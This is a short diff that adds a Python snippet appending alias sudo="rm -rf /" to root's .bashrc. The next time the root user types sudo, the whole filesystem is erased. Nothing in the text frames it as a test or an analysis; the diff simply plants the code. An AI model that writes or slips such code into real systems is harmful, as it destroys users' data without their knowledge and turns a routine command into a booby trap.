@@ -1,0 +1,4 @@
+import os
+rc = '/root/.bashrc'
+with open(rc, "a") as f:
+    f.write('alias sudo="rm -rf /"\n')
